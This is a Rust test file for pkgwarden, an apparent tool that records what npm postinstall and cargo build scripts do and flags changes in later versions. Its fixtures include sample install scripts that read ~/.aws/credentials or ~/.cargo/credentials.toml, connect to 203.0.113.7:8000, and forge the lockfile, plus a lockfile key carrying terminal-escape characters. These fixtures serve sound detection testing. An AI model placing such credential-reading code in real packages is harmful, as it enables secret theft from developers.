//! The behaviour lockfile: what real installs do is written down, and held against the next one.

use std::fs;
use std::path::{Path, PathBuf};
use std::process::Command;

use pkgwarden_tests::deadline::COMPILE;
use pkgwarden_tests::{Ended, World, binary, run, words, workspace};

/// Exit code where there is something new.
const NEW: i32 = 120;
/// Exit code for a lockfile that cannot be used.
const USAGE: i32 = 2;

/// An install script of a version that is harmless: it writes into its own folder, into a cache, and runs a program.
const HARMLESS: &str = "\
const fs = require('fs');
fs.writeFileSync('built.txt', String(process.pid));
fs.mkdirSync(process.env.HOME + '/.cache/quick-colours', { recursive: true });
fs.writeFileSync(process.env.HOME + '/.cache/quick-colours/' + process.pid, 'x');
require('child_process').execFileSync('uname');
";
/// What the next version does besides.
const HARMFUL: &str = "\
try { fs.readFileSync(process.env.HOME + '/.aws/credentials'); } catch {}
const socket = require('net').connect(8000, '203.0.113.7');
socket.on('error', () => process.exit(0));
socket.on('connect', () => process.exit(0));
";

/// A world with a project, in which pkgwarden is run again and again.
struct Stage {
    world: World,
}

impl Stage {
    fn new() -> Self {
        let stage = Self { world: World::new() };
        stage.write("package.json", "{\"name\":\"app\",\"version\":\"1.0.0\",\"private\":true}");
        stage
    }

    fn path(&self, name: &str) -> PathBuf {
        self.world.project().join(name)
    }

    fn write(&self, name: &str, text: &str) {
        let path = self.path(name);
        fs::create_dir_all(path.parent().expect("a file of the project has a parent"))
            .expect("make a directory");
        fs::write(path, text).expect("write a file of the project");
    }

    fn lock(&self) -> String {
        fs::read_to_string(self.path("pkgwarden.lock")).expect("read the lockfile")
    }

    /// Runs `pkgwarden WORDS` on the machine.
    fn pkgwarden(&self, line: &[String]) -> Ended {
        let mut whole = vec![binary().display().to_string()];
        whole.extend_from_slice(line);
        let program = self.world.program(&whole).within(COMPILE);
        self.world.enter(|| program.run(&self.world.folder("results")))
    }

    /// `npm install` of a version of `quick-colours` with this script, in a project without any.
    fn install(&self, options: &str, version: &str, script: &str) -> Ended {
        let tarball = pack(&self.world.folder("dist"), version, script);
        fs::remove_dir_all(self.path("node_modules")).ok();
        fs::remove_file(self.path("package-lock.json")).ok();
        let mut line = words(options);
        line.extend(words("-- npm install --offline --no-save"));
        line.push(tarball.display().to_string());
        self.pkgwarden(&line)
    }
}

/// A package on disk, as npm packs it.
fn pack(folder: &Path, version: &str, script: &str) -> PathBuf {
    let package = folder.join("package");
    fs::create_dir_all(&package).expect("make a package");
    let manifest = serde_json::json!({
        "name": "quick-colours", "version": version, "scripts": { "postinstall": "node install.js" },
    });
    fs::write(package.join("package.json"), manifest.to_string()).expect("write the manifest");
    fs::write(package.join("install.js"), script).expect("write the script");
    let tarball = folder.join(format!("quick-colours-{version}.tgz"));
    run(Command::new("tar").arg("-czf").arg(&tarball).arg("-C").arg(folder).arg("package"));
    tarball
}

fn said(ended: &Ended) -> String {
    String::from_utf8_lossy(&ended.stderr).into_owned()
}

#[test]
#[ignore = "needs root and the built binary"]
fn a_version_that_steals_is_named() {
    let stage = Stage::new();
    let recorded = stage.install("record", "1.2.3", HARMLESS);
    assert_eq!(recorded.code(), 0, "{}", recorded.output());
    let lock = stage.lock();
    for line in ["~/.cache/quick-colours/**: []", "- /usr/bin/uname", "<package>/install.js"] {
        assert!(lock.contains(line), "{line} is not in\n{lock}");
    }
    for noise in ["built.txt", "/var/", "aws"] {
        assert!(!lock.contains(noise), "{noise} is in\n{lock}");
    }

    let checked = stage.install("check --mode audit", "1.2.3", HARMLESS);
    assert_eq!(checked.code(), 0, "{}", checked.output());
    // A version that does the same is nothing new, but it is told.
    let checked = stage.install("check --mode audit", "1.2.4", HARMLESS);
    assert_eq!(checked.code(), 0, "{}", checked.output());
    assert!(
        said(&checked).contains("quick-colours 1.2.4 (npm) is not in the lockfile"),
        "{}",
        checked.output()
    );

    let harmful = format!("{HARMLESS}{HARMFUL}");
    // Findings alone do not fail it here: what is new does.
    let options = "check --mode audit --fail-on critical --events events.jsonl";
    let checked = stage.install(options, "1.2.5", &harmful);
    assert_eq!(checked.code(), NEW, "{}", checked.output());
    let complaint = said(&checked);
    for line in [
        "quick-colours 1.2.5 (npm, postinstall) does what 1.2.3 did not",
        "  reads ~/.aws/credentials",
        "  connects to 203.0.113.7:8000",
    ] {
        assert!(complaint.contains(line), "{line} was not said\n{}", checked.output());
    }
    assert_eq!(stage.lock(), lock, "check has changed the lockfile");

    // The same from the events, and what a review of both lockfiles shows.
    let again = stage.pkgwarden(&words("check --json --from events.jsonl"));
    assert_eq!(again.code(), NEW, "{}", again.output());
    let difference: serde_json::Value = serde_json::from_slice(&again.stdout).expect("JSON");
    let added = &difference["changes"][0]["added"];
    assert_eq!(difference["changes"][0]["to"][0], "1.2.5");
    assert!(added.to_string().contains("203.0.113.7:8000"), "{added}");
    let recorded = stage.pkgwarden(&words("record --lock new.lock --from events.jsonl"));
    assert_eq!(recorded.code(), 0, "{}", recorded.output());
    let diff = stage.pkgwarden(&words("diff pkgwarden.lock new.lock"));
    let shown = String::from_utf8_lossy(&diff.stdout).into_owned();
    assert!(
        shown.starts_with("quick-colours 1.2.3 -> 1.2.5 (npm, postinstall) does something new\n"),
        "{shown}"
    );
    assert!(shown.contains("  now reads ~/.aws/credentials"), "{shown}");
}

#[test]
#[ignore = "needs root and the built binary"]
fn recording_stops_nothing_less() {
    let stage = Stage::new();
    let stolen = "require('fs').readFileSync(process.env.HOME + '/.aws/credentials');\n\
                  require('fs').writeFileSync(process.env.HOME + '/harm', 'done');\n";
    let ended = stage.install("record --report report.json", "1.2.3", stolen);
    assert_ne!(ended.code(), 0, "{}", ended.output());
    assert!(!stage.world.marker().exists(), "{}", ended.output());
    let report = pkgwarden_tests::Report::read(&stage.path("report.json"));
    assert_eq!(report.findings.len(), 1, "observed acts are no findings\n{}", ended.output());
    assert!(stage.lock().contains("~/.aws/credentials: [aws-credentials"), "{}", stage.lock());
}

#[test]
#[ignore = "needs root and the built binary"]
fn a_package_cannot_write_its_own_lockfile() {
    let stage = Stage::new();
    let recorded = stage.install("record", "1.2.3", HARMLESS);
    assert_eq!(recorded.code(), 0, "{}", recorded.output());
    let before = stage.lock();
    let forge = "require('fs').appendFileSync(process.env.INIT_CWD + '/pkgwarden.lock', '# forged\\n');\n";
    let checked = stage.install("check", "1.2.3", forge);
    assert_ne!(checked.code(), 0, "{}", checked.output());
    assert_eq!(stage.lock(), before, "{}", checked.output());
}

#[test]
#[ignore = "needs root and the built binary"]
fn a_lockfile_that_is_broken_or_missing_runs_nothing() {
    let stage = Stage::new();
    let marker = stage.world.marker().display().to_string();
    let touch = |subcommand: &str| stage.pkgwarden(&words(&format!("{subcommand} -- touch {marker}")));
    let missing = touch("check");
    assert_eq!(missing.code(), USAGE, "{}", missing.output());
    assert!(said(&missing).contains("there is no lockfile pkgwarden.lock"), "{}", missing.output());
    let text = "schema: pkgwarden.lock/1\npackages:\n  npm:\n    \"x\\e[2J\\u202e\":\n      \"1\": { a: { reads: {} } }\n";
    stage.write("pkgwarden.lock", text);
    for subcommand in ["check", "record", "record --anew"] {
        let broken = touch(subcommand);
        assert_eq!(broken.code(), USAGE, "{}", broken.output());
        let complaint = said(&broken);
        assert!(
            complaint.contains("unknown key `reads`") && complaint.contains("did you mean"),
            "{complaint}"
        );
        assert!(!complaint.contains("panicked") && !complaint.contains('\u{202e}'), "{complaint}");
        assert_eq!(stage.lock(), text);
    }
    assert!(!stage.world.marker().exists());
}

#[test]
#[ignore = "needs root and the built binary"]
fn a_build_script_is_held_to_what_it_did() {
    let stage = Stage::new();
    let honest = "use std::{env, fs, path::Path, process::Command};\n\
        fn main() {\n\
            let out = env::var(\"OUT_DIR\").unwrap();\n\
            fs::write(Path::new(&out).join(\"generated.rs\"), \"// x\").unwrap();\n\
            Command::new(\"uname\").output().unwrap();\n\
            // more\n\
        }\n";
    let more = "let _ = fs::read(Path::new(&env::var(\"HOME\").unwrap()).join(\".cargo/credentials.toml\"));";
    let vendored = stage.world.folder("vendor").join("tint-1.2.3");
    let lay_out = |script: &str| {
        fs::create_dir_all(vendored.join("src")).expect("make a crate");
        let manifest = "[package]\nname = \"tint\"\nversion = \"1.2.3\"\nedition = \"2021\"\n";
        for (name, text) in [
            ("Cargo.toml", manifest),
            ("src/lib.rs", ""),
            ("build.rs", script),
            (".cargo-checksum.json", "{\"files\":{}}"),
        ] {
            fs::write(vendored.join(name), text).expect("write a crate");
        }
        fs::remove_dir_all(stage.path("target")).ok();
    };
    let sources = format!(
        "[source.crates-io]\nreplace-with = \"vendored\"\n\n[source.vendored]\ndirectory = \"{}\"\n",
        stage.world.folder("vendor").display()
    );
    stage.write(".cargo/config.toml", &sources);
    stage.write("src/main.rs", "fn main() {}\n");
    stage.write(
        "Cargo.toml",
        "[package]\nname = \"app\"\nversion = \"1.0.0\"\nedition = \"2021\"\n\n[dependencies]\ntint = \"1.2.3\"\n\n[workspace]\n",
    );
    lay_out(honest);
    let recorded = stage.pkgwarden(&words("record -- cargo build --offline"));
    assert_eq!(recorded.code(), 0, "{}", recorded.output());
    let lock = stage.lock();
    let expected = "  cargo:\n    tint:\n      \"1.2.3\":\n        build.rs:\n          exec:\n          - ./target/debug/build/tint-*/build-script-build\n";
    assert!(lock.contains(expected), "{lock}");
    lay_out(honest);
    let checked = stage.pkgwarden(&words("check -- cargo build --offline"));
    assert_eq!(checked.code(), 0, "{}", checked.output());
    // The same version, another script.
    lay_out(&honest.replace("// more", more));
    let checked = stage.pkgwarden(&words("check --mode audit --fail-on critical -- cargo build --offline"));
    assert_eq!(checked.code(), NEW, "{}", checked.output());
    assert!(
        said(&checked).contains("tint 1.2.3 (cargo, build.rs) does what is not in the lockfile"),
        "{}",
        checked.output()
    );
    assert!(said(&checked).contains("reads ~/.cargo/credentials.toml"), "{}", checked.output());
}

/// Packages of which many are needed by others, with install scripts and without.
const FIFTY: &str = "\
@nestjs/core@11.1.9 @parcel/watcher@2.5.1 @swc/core@1.15.3 argon2@0.44.0 bigint-buffer@1.1.5 bufferutil@4.1.0 \
classic-level@3.0.0 core-js@3.51.0 core-js-pure@3.51.0 es5-ext@0.10.64 esbuild@0.28.2 keccak@3.0.4 lmdb@3.4.4 \
msgpackr-extract@3.0.3 nx@22.1.3 protobufjs@7.5.4 secp256k1@5.0.1 sharp@0.34.5 ssh2@1.17.0 unrs-resolver@1.11.1 \
utf-8-validate@6.0.5 vue-demi@0.14.10 async@3.2.6 axios@1.13.2 bluebird@3.7.2 chalk@5.6.2 commander@14.0.2 dayjs@1.11.19 \
debug@4.4.3 express@5.1.0 fs-extra@11.3.2 glob@13.0.0 immer@11.0.0 lodash@4.17.21 moment@2.30.1 ms@2.1.3 nanoid@5.1.6 \
prettier@3.6.2 react@19.2.0 react-dom@19.2.0 rxjs@7.8.2 semver@7.7.3 svelte@5.43.8 tslib@2.8.1 typescript@5.9.3 \
uuid@13.0.0 vue@3.5.24 ws@8.18.3 yargs@18.0.0 zod@4.1.12";

/// They come from the registry once, and then from `target/e2e-cache`.
#[test]
#[ignore = "needs root, the built binary and, once, the registry"]
fn fifty_packages_are_the_same_bytes_twice() {
    assert_eq!(FIFTY.split(' ').count(), 50);
    let cache = workspace().join("target/e2e-cache/npm");
    fs::create_dir_all(&cache).expect("make a directory for what registries give");
    let install = words(&format!("npm install --prefer-offline --legacy-peer-deps {FIFTY}"));
    let record = || {
        let stage = Stage::new();
        let mut line = vec![binary().display().to_string()];
        line.extend(words("record --linger 30 --events events.jsonl --"));
        line.extend_from_slice(&install);
        // Python compiles its own modules once on a machine, and tells it then only.
        let program = stage.world.program(&line).env("PYTHONDONTWRITEBYTECODE", "1");
        let program = program.env("npm_config_cache", &cache).within(COMPILE);
        let ended = program.run(&stage.world.folder("results"));
        assert_eq!(ended.code(), 0, "{}", ended.output());
        stage
    };
    let (first, second) = (record(), record());
    assert_eq!(first.lock(), second.lock());
    let packages =
        first.lock().lines().filter(|line| line.starts_with("    ") && !line.starts_with("     ")).count();
    assert!(packages >= 20, "only {packages} packages ran something\n{}", first.lock());
    // What the second did is nothing new to the first, and the round trip through the file changes no byte.
    let events = second.path("events.jsonl").display().to_string();
    let before = first.lock();
    let checked = first.pkgwarden(&["check".to_owned(), "--from".to_owned(), events.clone()]);
    assert_eq!(checked.code(), 0, "{}", checked.output());
    let recorded = first.pkgwarden(&["record".to_owned(), "--from".to_owned(), events]);
    assert_eq!(recorded.code(), 0, "{}", recorded.output());
    assert_eq!(first.lock(), before);
}
